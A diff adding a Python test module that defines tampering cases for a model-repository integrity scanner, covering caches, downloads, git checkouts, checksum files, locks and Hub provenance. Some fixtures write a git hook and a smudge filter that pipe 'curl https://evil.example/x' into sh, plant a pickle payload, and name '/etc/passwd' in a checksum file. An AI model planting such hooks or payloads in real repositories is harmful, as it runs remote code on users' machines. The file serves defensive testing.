@@ -1,0 +1,653 @@
+"""What is done to the model in each place, how the commands have to end, and what they have to name.
+
+The expectations were written from the documents before the first run. A commit that changes one says why.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+
+from hub.access import Overview
+from hub.repository import Repository
+from support.command import run_command
+from tampering.places import FILES, INDEX, OLD_FILES, PAYLOAD, SHARDS, Place, hash_blob, hash_file
+
+FIRST, SECOND = SHARDS
+CODE, CONFIG, VOCABULARY = "modeling_tiny.py", "config.json", "tokenizer/vocab.txt"
+EVIL = b"SIZE = 63\n"
+API = "/api/models/acme/tiny"
+Change = Callable[[Place], object]
+
+
+@dataclass(frozen=True, slots=True)
+class Case:
+    """A kind of tampering.
+
+    Args:
+        place: Where the bytes lie; no two cases have the same place and operation.
+        operation: What is done to them.
+        change: Does it.
+        code: The exit code, 1 or 3.
+        named: Of a scan: a rule or the reason of an absence, then the file, with wildcards. Of other commands: the
+            begin of a line of the output.
+        command: ``scan``, ``verify`` (without a lock), ``verify --lock`` or ``lock --check``.
+        options: Further options of the command.
+    """
+
+    place: str
+    operation: str
+    change: Change
+    code: int
+    named: str
+    command: str = "scan"
+    options: Sequence[str] = ()
+
+
+def flip(path: Path) -> None:
+    """Change one bit of the last byte of a file, and keep its size and times."""
+    path = path.resolve()
+    state, content = path.stat(), bytearray(path.read_bytes())
+    content[-1] ^= 1
+    path.chmod(0o644)
+    path.write_bytes(content)
+    os.utime(path, ns=(state.st_atime_ns, state.st_mtime_ns))
+
+
+def overwrite(path: Path, content: bytes) -> None:
+    """Put other bytes into a file, through a link if there is one."""
+    path = path.resolve()
+    path.chmod(0o644)
+    path.write_bytes(content)
+
+
+def edit(path: Path, old: str, new: str) -> None:
+    """Replace a text in a file that holds it."""
+    text = path.read_text()
+    assert old in text, f"{path} does not hold {old}"
+    path.write_text(text.replace(old, new))
+
+
+def relink(path: Path, target: str | Path) -> None:
+    """Put a link in the place of a file or link."""
+    path.unlink(missing_ok=True)
+    path.symlink_to(target)
+
+
+def swap(first: Path, second: Path) -> None:
+    """Swap two files, links or not, of the same folder."""
+    held = first.with_name("held")
+    first.rename(held)
+    second.rename(first)
+    held.rename(second)
+
+
+def add_blob(place: Place, name: str, content: bytes) -> None:
+    """Add a file to a snapshot as the client does: a blob of the right name, and a link to it."""
+    blob = place.root.parents[1] / "blobs" / hash_blob(content)
+    blob.write_bytes(content)
+    relink(place.root / name, os.path.relpath(blob, (place.root / name).parent))
+
+
+def replace_consistently(place: Place) -> None:
+    """Replace a blob, the link to it and its line of the listing, so that all records of the cache agree."""
+    add_blob(place, CODE, EVIL)
+    edit(place.listing, hash_blob(FILES[CODE]), hash_blob(EVIL))
+
+
+def drop_from_listing(place: Place, name: str) -> None:
+    """Remove a file from the recorded listing."""
+    record = json.loads(place.listing.read_text())
+    text = json.dumps(record)
+    assert name in text
+
+    def prune(value: object) -> object:
+        if isinstance(value, dict):
+            return {key: prune(each) for key, each in value.items() if key != name}
+        if isinstance(value, list):
+            return [prune(each) for each in value if not (isinstance(each, dict) and name in each.values())]
+        return value
+
+    place.listing.write_text(json.dumps(prune(record)))
+    assert name not in place.listing.read_text()
+
+
+def serve_with_own_headers(place: Place) -> None:
+    """Serve other code, under the ETag that belongs to it."""
+    tag = f'"{hash_blob(EVIL)}"'
+    place.hub.inject_fault(CODE, headers={"ETag": tag, "X-Linked-ETag": tag})
+    place.hub.inject_fault(CODE, content=EVIL)
+
+
+def resume_with_other_bytes(place: Place) -> None:
+    """Break the first answer off, and change the bytes of those that continue it."""
+    place.hub.inject_fault(FIRST, drop_after=100, times=1)
+    place.hub.inject_fault(FIRST, tamper=True)
+
+
+def lock_from_hub(place: Place) -> None:
+    """Lock the repository of the model on the Hub."""
+    done = run_command("lock", "acme/tiny", "-o", place.lock, "-q")
+    assert done.returncode == 0, done.stderr
+
+
+def remove_records_and_change(place: Place) -> None:
+    """Make a plain folder of a download, and change a shard."""
+    lock_from_hub(place)
+    shutil.rmtree(place.root / ".cache")
+    flip(place.root / FIRST)
+
+
+def remove_index_of_git_and_change(place: Place) -> None:
+    """Remove everything by which git knows its files, and change a shard."""
+    lock_from_hub(place)
+    shutil.rmtree(place.root / ".git")
+    flip(place.root / FIRST)
+
+
+def replace_in_the_store_too(place: Place) -> None:
+    """Change a shard of a checkout, and its copy among the objects of Git LFS."""
+    digest = hash_file(place.root / FIRST)
+    flip(place.root / ".git/lfs/objects" / digest[:2] / digest[2:4] / digest)
+    flip(place.root / FIRST)
+
+
+def hide_from_status(place: Place) -> None:
+    """Change a file after git was asked to assume that it is unchanged."""
+    place.git("update-index", "--assume-unchanged", CODE)
+    overwrite(place.root / CODE, EVIL)
+    assert place.git("status", "--porcelain", "--", CODE) == ""
+
+
+def set_filter(place: Place, text: str) -> None:
+    """Let another filter change the configuration at checkout, and change it."""
+    (place.root / ".git/info").mkdir(exist_ok=True)
+    (place.root / ".git/info/attributes").write_text(text)
+    overwrite(place.root / CONFIG, OLD_FILES[CONFIG])
+
+
+def write(path: Path, content: bytes | str, mode: int = 0o644) -> None:
+    """Write a file, with the folders above it."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(content.encode() if isinstance(content, str) else content)
+    path.chmod(mode)
+
+
+def sum_files(place: Place, form: str = "{digest}  {name}\n") -> str:
+    """State the SHA-256 of every file of the model."""
+    digests = {name: hash_file(place.root / name) for name in FILES}
+    return "".join(form.format(digest=each, capitals=each.upper(), name=name) for name, each in digests.items())
+
+
+def write_sums(place: Place, name: str = "SHA256SUMS", form: str = "{digest}  {name}\n", extra: str = "") -> None:
+    """Write a file of checksums of every file, and a further text."""
+    write(place.root / name, sum_files(place, form) + extra)
+
+
+def relock(place: Place) -> Repository:
+    """Lock the branch of a repository in place of its tag, and return the repository."""
+    place.lock.unlink()
+    place.target = place.repository.id
+    place.make_lock()
+    return place.repository
+
+
+def rewrite_history(place: Place, keeps_commit: bool = True) -> None:
+    """Give the branch another history, in which the locked commit is not."""
+    repository = relock(place)
+    old, other = repository.sha, Repository(repository.id)
+    other.commit({**FILES, CONFIG: b"{}"}, message="rewritten")
+    repository.commits |= other.commits
+    repository.branches["main"] = other.sha
+    if not keeps_commit:
+        del repository.commits[old]
+
+
+def recreate(place: Place) -> None:
+    """Let every commit, and so the repository, be younger than the lock."""
+    for commit in place.repository.commits.values():
+        object.__setattr__(commit, "date", 1_900_000_000)
+
+
+def state_owner(place: Place, **facts: object) -> None:
+    """Let the Hub state other facts about the owner."""
+    place.hub.access.overviews[place.repository.owner or ""] = Overview(**facts)  # type: ignore[arg-type]
+
+
+OFFLINE = ("--offline",)
+CACHE = [
+    Case("cache", "change a large blob", lambda at: flip(at.root / FIRST), 1, f"*/digest-mismatch {FIRST}"),
+    Case("cache", "replace code", lambda at: overwrite(at.root / CODE, EVIL), 1, f"*/digest-mismatch {CODE}"),
+    Case(
+        *("cache", "replace code and remove the listing"),
+        lambda at: (at.listing.unlink(), overwrite(at.root / CODE, EVIL)),
+        *(1, f"*/digest-mismatch {CODE}"),
+    ),
+    Case(
+        *("cache", "retarget a link"),
+        lambda at: relink(at.root / CONFIG, (at.root / CODE).readlink()),
+        *(1, f"*/digest-mismatch {CONFIG}"),
+    ),
+    Case(
+        *("cache", "retarget a link and remove the listing"),
+        lambda at: (at.listing.unlink(), relink(at.root / CONFIG, (at.root / CODE).readlink())),
+        *(3, "unverified-bytes *trees/*.json"),
+    ),
+    Case(
+        *("cache", "swap two shards"),
+        lambda at: swap(at.root / FIRST, at.root / SECOND),
+        *(1, f"*/digest-mismatch {SECOND}"),
+    ),
+    Case("cache", "remove a link", lambda at: (at.root / CODE).unlink(), 3, f"content-absent {CODE}"),
+    Case(
+        *("cache", "remove a link and the listing"),
+        lambda at: (at.listing.unlink(), (at.root / CODE).unlink()),
+        *(3, "unverified-bytes *trees/*.json"),
+    ),
+    Case("cache", "remove a blob", lambda at: (at.root / FIRST).resolve().unlink(), 3, f"content-absent {FIRST}"),
+    Case("cache", "add plain code", lambda at: write(at.root / "extra.py", EVIL), 1, "*/unlisted-code extra.py"),
+    Case("cache", "add linked code", lambda at: add_blob(at, "extra.py", EVIL), 1, "*/unlisted-code extra.py"),
+    Case("cache", "add linked data", lambda at: add_blob(at, "a.json", b"{}"), 3, "*/unlisted-file a.json"),
+    Case(
+        *("cache", "put a plain file in place of a link"),
+        lambda at: ((at.root / CODE).unlink(), write(at.root / CODE, EVIL)),
+        *(1, f"*/plain-cache-file {CODE}"),
+    ),
+    Case(
+        *("cache", "lead a blob to a file elsewhere"),
+        lambda at: (write(at.beside / "x", FILES[FIRST]), relink((at.root / FIRST).resolve(), at.beside / "x")),
+        *(3, f"link-outside-root {FIRST}"),
+    ),
+    Case(
+        *("cache", "lead a folder elsewhere"),
+        lambda at: (
+            shutil.copytree(at.root / "tokenizer", at.beside / "tokenizer"),
+            shutil.rmtree(at.root / "tokenizer"),
+            relink(at.root / "tokenizer", at.beside / "tokenizer"),
+        ),
+        *(3, "link-outside-root tokenizer*"),
+    ),
+    Case(
+        *("cache", "rename a link to capitals"),
+        lambda at: (at.root / CONFIG).rename(at.root / "Config.json"),
+        *(3, "*/unlisted-file Config.json"),
+    ),
+    Case(
+        *("cache", "break the listing off"),
+        lambda at: write(at.listing, at.listing.read_bytes()[:50]),
+        *(3, "*/unsound-record *trees/*.json"),
+    ),
+    Case(
+        *("cache", "change a digest in the listing"),
+        lambda at: edit(at.listing, hash_blob(FILES[CODE]), hash_blob(EVIL)),
+        *(1, f"*/digest-mismatch {CODE}"),
+    ),
+    Case(
+        *("cache", "remove a line of the listing"),
+        lambda at: drop_from_listing(at, CODE),
+        *(1, f"*/unlisted-code {CODE}"),
+    ),
+]
+CACHE = [Case(c.place, c.operation, c.change, c.code, c.named, options=OFFLINE) for c in CACHE]
+CACHE += [
+    Case("cache", "replace blob, link and listing alike", replace_consistently, 1, f"*/digest-mismatch {CODE}"),
+    Case(
+        *("cache", "change a shard of a snapshot"),
+        lambda at: flip(at.root / FIRST),
+        *(1, f"  contradicted: {FIRST}", "verify"),
+    ),
+]
+WIRE = [
+    Case(
+        *("wire", "change a byte of a large file"),
+        lambda at: at.hub.inject_fault(FIRST, origin="cdn", tamper=True),
+        *(1, f"*/digest-mismatch {FIRST}"),
+    ),
+    Case(
+        *("wire", "change a byte of code"),
+        lambda at: at.hub.inject_fault(CODE, tamper=True),
+        *(1, f"*/digest-mismatch {CODE}"),
+    ),
+    Case("wire", "serve code with its own headers", serve_with_own_headers, 1, f"*/digest-mismatch {CODE}"),
+    Case(
+        *("wire", "serve another file of the same size"),
+        lambda at: at.hub.inject_fault(FIRST, content=FILES[SECOND]),
+        *(1, f"*/digest-mismatch {FIRST}"),
+    ),
+    Case(
+        *("wire", "serve the previous version"),
+        lambda at: at.hub.inject_fault(CONFIG, content=OLD_FILES[CONFIG]),
+        *(1, f"*/digest-mismatch {CONFIG}"),
+    ),
+    Case(
+        *("wire", "serve more bytes"),
+        lambda at: at.hub.inject_fault(CODE, content=FILES[CODE] + EVIL),
+        *(3, f"* {CODE}"),
+    ),
+    Case(
+        *("wire", "break every answer off"),
+        lambda at: at.hub.inject_fault(FIRST, drop_after=20),
+        *(3, f"* {FIRST}"),
+    ),
+    Case("wire", "continue with other bytes", resume_with_other_bytes, 1, f"*/digest-mismatch {FIRST}"),
+    Case("wire", "refuse a file", lambda at: at.hub.inject_fault(CODE, status=404), 3, f"content-absent {CODE}"),
+    Case(
+        *("wire", "state another digest in the listing"),
+        lambda at: at.hub.inject_fault(API, replace=(hash_blob(FILES[CODE]).encode(), hash_blob(EVIL).encode())),
+        *(1, f"*/digest-mismatch {CODE}"),
+    ),
+    Case(
+        *("wire", "state no SHA-256 in the listing"),
+        lambda at: at.hub.inject_fault(API, replace=(b'"lfs"', b'"sfl"')),
+        *(1, f"*/digest-mismatch {FIRST}"),
+    ),
+    Case(
+        *("wire", "state an empty digest in the listing"),
+        lambda at: at.hub.inject_fault(API, replace=(hash_blob(FILES[CODE]).encode(), b"")),
+        *(3, f"unverified-bytes {CODE}"),
+    ),
+    Case(
+        *("wire", "state another size in the listing"),
+        lambda at: at.hub.inject_fault(API, replace=(b'"size": 6, "path"', b'"size": 7, "path"')),
+        *(3, f"* {VOCABULARY}"),
+    ),
+    Case(
+        *("wire", "name a place outside in the listing"),
+        lambda at: at.hub.inject_fault(API, replace=(VOCABULARY.encode(), b"../../vocab.txt")),
+        *(3, "* ../../vocab.txt"),
+    ),
+]
+DOWNLOAD = ".cache/huggingface/download"
+LOCAL_DIR = [
+    Case("local-dir", "change a shard", lambda at: flip(at.root / FIRST), 1, f"*/digest-mismatch {FIRST}"),
+    Case("local-dir", "replace code", lambda at: overwrite(at.root / CODE, EVIL), 1, f"*/digest-mismatch {CODE}"),
+    Case(
+        *("local-dir", "change a shard and remove the listing"),
+        lambda at: (at.listing.unlink(), flip(at.root / FIRST)),
+        *(1, f"*/digest-mismatch {FIRST}"),
+    ),
+    Case(
+        *("local-dir", "change a shard and remove its record"),
+        lambda at: (at.record(FIRST).unlink(), flip(at.root / FIRST)),
+        *(1, f"*/digest-mismatch {FIRST}"),
+    ),
+    Case(
+        *("local-dir", "change a shard and its record"),
+        lambda at: (
+            edit(at.record(FIRST), hash_file(at.root / FIRST), "0" * 64),
+            flip(at.root / FIRST),
+            edit(at.record(FIRST), "0" * 64, hash_file(at.root / FIRST)),
+        ),
+        *(1, f"*/digest-mismatch {FIRST}"),
+    ),
+    Case(
+        *("local-dir", "replace code and remove listing and records"),
+        lambda at: (
+            shutil.rmtree(at.listing.parent),
+            shutil.rmtree(at.root / DOWNLOAD),
+            overwrite(at.root / CODE, EVIL),
+        ),
+        *(3, f"unverified-bytes {CODE}"),
+    ),
+    Case(
+        *("local-dir", "change a shard and remove all records"),
+        remove_records_and_change,
+        *(1, f"  changed: {FIRST}", "verify --lock"),
+    ),
+    Case("local-dir", "add code", lambda at: write(at.root / "extra.py", EVIL), 1, "*/unlisted-code extra.py"),
+    Case("local-dir", "add data", lambda at: write(at.root / "a.json", "{}"), 3, "*/unlisted-file a.json"),
+    Case("local-dir", "remove code", lambda at: (at.root / CODE).unlink(), 3, f"content-absent {CODE}"),
+    Case(
+        *("local-dir", "remove a shard and every record of it"),
+        lambda at: ((at.root / FIRST).unlink(), at.record(FIRST).unlink(), drop_from_listing(at, FIRST)),
+        *(3, "*/shard-absent model.safetensors.index.json"),
+    ),
+    Case(
+        *("local-dir", "break the listing off"),
+        lambda at: write(at.listing, at.listing.read_bytes()[:50]),
+        *(3, "*/unsound-record *trees/*.json"),
+    ),
+    Case(
+        *("local-dir", "name a place outside in the listing"),
+        lambda at: edit(at.listing, VOCABULARY, "../../vocab.txt"),
+        *(3, "*/unsound-record *trees/*.json"),
+    ),
+    Case(
+        *("local-dir", "cut a record to two lines"),
+        lambda at: write(at.record(CODE), "\n".join(at.record(CODE).read_text().split("\n")[:2])),
+        *(3, f"*/unsound-record {DOWNLOAD}/{CODE}.metadata"),
+    ),
+    Case(
+        *("local-dir", "hide a payload among the records"),
+        lambda at: write(at.root / DOWNLOAD / "weights.pkl", PAYLOAD),
+        *(1, f"pickle/* {DOWNLOAD}/weights.pkl"),
+    ),
+    Case(
+        *("local-dir", "lead a file elsewhere"),
+        lambda at: (write(at.beside / "x", FILES[FIRST]), relink(at.root / FIRST, at.beside / "x")),
+        *(3, f"link-outside-root {FIRST}"),
+    ),
+    Case(
+        *("local-dir", "replace a tokenizer"),
+        lambda at: overwrite(at.root / VOCABULARY, b"x\ny\nz\n"),
+        *(1, f"  contradicted: {VOCABULARY}", "verify"),
+    ),
+]
+GIT = [
+    Case("git", "replace code", lambda at: overwrite(at.root / CODE, EVIL), 1, f"*/checksum-mismatch {CODE}"),
+    Case("git", "change a shard", lambda at: flip(at.root / FIRST), 1, f"*/checksum-mismatch {FIRST}"),
+    Case("git", "change a shard and the store", replace_in_the_store_too, 1, f"*/checksum-mismatch {FIRST}"),
+    Case("git", "hide a change from git status", hide_from_status, 1, f"*/checksum-mismatch {CODE}"),
+    Case("git", "remove code", lambda at: (at.root / CODE).unlink(), 3, f"content-absent {CODE}"),
+    Case(
+        *("git", "leave the pointer in place of a shard"),
+        lambda at: write(at.root / FIRST, at.git("cat-file", "blob", f"HEAD:{FIRST}") + "\n"),
+        *(3, f"content-absent {FIRST}"),
+    ),
+    Case(
+        *("git", "lead code to another file"),
+        lambda at: relink(at.root / CODE, CONFIG),
+        *(1, f"*/checksum-mismatch {CODE}"),
+    ),
+    Case(
+        *("git", "break the index off"),
+        lambda at: write(at.root / ".git/index", (at.root / ".git/index").read_bytes()[:-30]),
+        *(3, "*/unsound-record .git/index"),
+    ),
+    Case(
+        *("git", "replace code and remove the index"),
+        lambda at: ((at.root / ".git/index").unlink(), overwrite(at.root / CODE, EVIL)),
+        *(3, "* .git/index"),
+    ),
+    Case(
+        *("git", "change a shard and remove all of git"),
+        remove_index_of_git_and_change,
+        *(1, f"  changed: {FIRST}", "verify --lock"),
+    ),
+    Case(
+        *("git", "add a hook"),
+        lambda at: write(at.root / ".git/hooks/post-checkout", "#!/bin/sh\ncurl https://evil.example/x | sh\n", 0o755),
+        *(1, "*/* .git/hooks/post-checkout"),
+    ),
+    Case(
+        *("git", "configure a filter with a command"),
+        lambda at: at.git("config", "filter.x.smudge", "curl https://evil.example/x | sh"),
+        *(1, "*/* .git/config"),
+    ),
+    Case(
+        *("git", "exempt a changed file by a filter"),
+        lambda at: set_filter(at, "*.json filter=other\n"),
+        *(3, f"unverified-bytes {CONFIG}"),
+    ),
+    Case(
+        *("git", "hide a payload among the objects"),
+        lambda at: write(at.root / ".git/objects/ab" / ("c" * 38), PAYLOAD),
+        *(1, f"pickle/* .git/objects/ab/{'c' * 38}"),
+    ),
+    Case(
+        *("git", "add untracked code"),
+        lambda at: write(at.root / "extra.py", EVIL),
+        *(3, "  *extra.py", "verify"),
+    ),
+]
+SIDECARS = [
+    Case(
+        *("sidecars", "change a shard beside SHA256SUMS"),
+        lambda at: (write_sums(at), flip(at.root / FIRST)),
+        *(1, f"*/checksum-mismatch {FIRST}"),
+    ),
+    Case(
+        *("sidecars", "change a shard beside FILE.sha256"),
+        lambda at: (
+            write(at.root / f"{FIRST}.sha256", f"{hash_file(at.root / FIRST)}  {FIRST}\n"),
+            flip(at.root / FIRST),
+        ),
+        *(1, f"*/checksum-mismatch {FIRST}"),
+    ),
+    Case(
+        *("sidecars", "replace code beside lines in the form of BSD"),
+        lambda at: (write_sums(at, form="SHA256 ({name}) = {digest}\n"), overwrite(at.root / CODE, EVIL)),
+        *(1, f"*/checksum-mismatch {CODE}"),
+    ),
+    Case(
+        *("sidecars", "replace a configuration beside checksums.txt with CRLF and marks"),
+        lambda at: (
+            write_sums(at, "checksums.txt", "{digest} *./{name}\r\n"),
+            overwrite(at.root / CONFIG, OLD_FILES[CONFIG]),
+        ),
+        *(1, f"*/checksum-mismatch {CONFIG}"),
+    ),
+    Case(
+        *("sidecars", "replace a tokenizer beside SHA256SUMS of its folder"),
+        lambda at: (
+            write(at.root / "tokenizer/SHA256SUMS", f"{hash_file(at.root / VOCABULARY)}  vocab.txt\n"),
+            overwrite(at.root / VOCABULARY, b"x\ny\nz\n"),
+        ),
+        *(1, f"*/checksum-mismatch {VOCABULARY}"),
+    ),
+    Case(
+        *("sidecars", "swap two shards"),
+        lambda at: (write_sums(at), swap(at.root / FIRST, at.root / SECOND)),
+        *(1, f"*/checksum-mismatch {SECOND}"),
+    ),
+    Case(
+        *("sidecars", "remove a named file"),
+        lambda at: (write_sums(at), (at.root / CODE).unlink()),
+        *(3, "*/named-file-absent SHA256SUMS"),
+    ),
+    Case(
+        *("sidecars", "let two files contradict each other"),
+        lambda at: (write_sums(at), write(at.root / f"{CODE}.sha256", f"{'0' * 64}  {CODE}\n")),
+        *(1, f"*/checksum-mismatch {CODE}"),
+    ),
+    Case(
+        *("sidecars", "name a place outside"),
+        lambda at: write_sums(at, extra=f"{'0' * 64}  ../x\n"),
+        *(3, "*/unsound-record SHA256SUMS"),
+    ),
+    Case(
+        *("sidecars", "name an absolute place"),
+        lambda at: write_sums(at, extra=f"{'0' * 64}  /etc/passwd\n"),
+        *(3, "*/unsound-record SHA256SUMS"),
+    ),
+    Case(
+        *("sidecars", "cut a digest"),
+        lambda at: write_sums(at, extra=f"{'0' * 63}  {CODE}\n"),
+        *(3, "*/unsound-record SHA256SUMS"),
+    ),
+    Case(
+        *("sidecars", "change a shard of a folder"),
+        lambda at: (write_sums(at), flip(at.root / FIRST)),
+        *(1, f"  contradicted: {FIRST}", "verify"),
+    ),
+    Case(
+        *("sidecars", "add code without a line"),
+        lambda at: (write_sums(at), write(at.root / "extra.py", EVIL)),
+        *(3, "  *extra.py", "verify"),
+    ),
+    Case(
+        *("sidecars", "let the index name an absent shard"),
+        lambda at: write(
+            at.root / "model.safetensors.index.json",
+            json.dumps({**INDEX, "weight_map": {"a.weight": FIRST, "b.weight": SECOND, "c": "model-3.safetensors"}}),
+        ),
+        *(3, "*/shard-absent model.safetensors.index.json"),
+    ),
+]
+LOCK = [
+    Case("lock", "change a byte and keep size and time", lambda at: flip(at.root / FIRST), 1, f"  changed: {FIRST}"),
+    Case(
+        *("lock", "swap two shards"),
+        lambda at: swap(at.root / FIRST, at.root / SECOND),
+        *(1, f"  changed: {SECOND}"),
+    ),
+    Case(
+        *("lock", "replace code and state it in SHA256SUMS"),
+        lambda at: (overwrite(at.root / CODE, EVIL), write_sums(at)),
+        *(1, f"  changed: {CODE}"),
+    ),
+    Case("lock", "add hidden code", lambda at: write(at.root / ".x.py", EVIL), 1, "  added: .x.py"),
+    Case(
+        *("lock", "add a folder of git below the root"),
+        lambda at: write(at.root / "tokenizer/.git/x.py", EVIL),
+        *(1, "  added: tokenizer/.git/x.py"),
+    ),
+    Case("lock", "remove code", lambda at: (at.root / CODE).unlink(), 1, f"  missing: {CODE}"),
+    Case("lock", "rename code", lambda at: (at.root / CODE).rename(at.root / "json.py"), 1, "  renamed: json.py"),
+    Case(
+        *("lock", "rename to capitals"),
+        lambda at: (at.root / CONFIG).rename(at.root / "Config.json"),
+        *(1, "  case: Config.json"),
+    ),
+    Case("lock", "make a file executable", lambda at: (at.root / CODE).chmod(0o755), 1, f"  mode: {CODE}"),
+    Case("lock", "retarget a link", lambda at: relink(at.root / "link.json", CODE), 1, "  changed: link.json"),
+    Case(
+        *("lock", "put a link to equal bytes in place of a file"),
+        lambda at: (write(at.beside / "x", FILES[CODE]), relink(at.root / CODE, at.beside / "x")),
+        *(1, f"  kind: {CODE}"),
+    ),
+    Case("lock", "remove an empty folder", lambda at: (at.root / "empty").rmdir(), 1, "  missing: empty"),
+]
+LOCK = [Case(c.place, c.operation, c.change, c.code, c.named, "verify --lock") for c in LOCK]
+LOCK += [
+    Case(
+        *("lock", "replace a configuration before a scan"),
+        lambda at: (overwrite(at.root / CONFIG, OLD_FILES[CONFIG]), at.options.extend(["--lock", str(at.lock)])),
+        *(1, f"*/digest-mismatch {CONFIG}"),
+    ),
+]
+PROVENANCE = [
+    Case(
+        *("hub", "move to another owner"),
+        lambda at: at.hub.rename_repository(at.repository.id, "mallory/tiny"),
+        *(1, "moved: "),
+    ),
+    Case("hub", "register the owner again", lambda at: state_owner(at, id="f" * 24), 1, "owner: the id"),
+    Case(
+        *("hub", "let the owner be younger"),
+        lambda at: state_owner(at, created="2026-01-01T00:00:00.000Z"),
+        *(1, "owner: the date of creation"),
+    ),
+    Case("hub", "replace the organisation by a user", lambda at: state_owner(at, is_user=True), 1, "owner: the kind"),
+    Case("hub", "create the repository again", recreate, 1, "younger: "),
+    Case("hub", "move a tag", lambda at: at.repository.set_tag("v1"), 1, "tag-moved: the tag 'v1'"),
+    Case("hub", "remove a tag", lambda at: at.repository.tags.pop("v1"), 1, "revision-gone: "),
+    Case("hub", "rewrite the history", rewrite_history, 1, "history-rewritten: "),
+    Case("hub", "drop the commit", lambda at: rewrite_history(at, keeps_commit=False), 1, "commit-gone: "),
+    Case(
+        *("hub", "remove the repository"),
+        lambda at: at.hub.access.repositories.pop(("model", at.repository.id)),
+        *(1, "missing: "),
+    ),
+    Case(
+        *("hub", "change the licence"),
+        lambda at: relock(at).commit({"README.md": b"---\nlicense: cc-by-nc-4.0\n---\n"}),
+        *(1, "license: "),
+    ),
+]
+PROVENANCE = [Case(c.place, c.operation, c.change, c.code, c.named, "lock --check") for c in PROVENANCE]
+CASES = [*CACHE, *WIRE, *LOCAL_DIR, *GIT, *SIDECARS, *LOCK, *PROVENANCE]
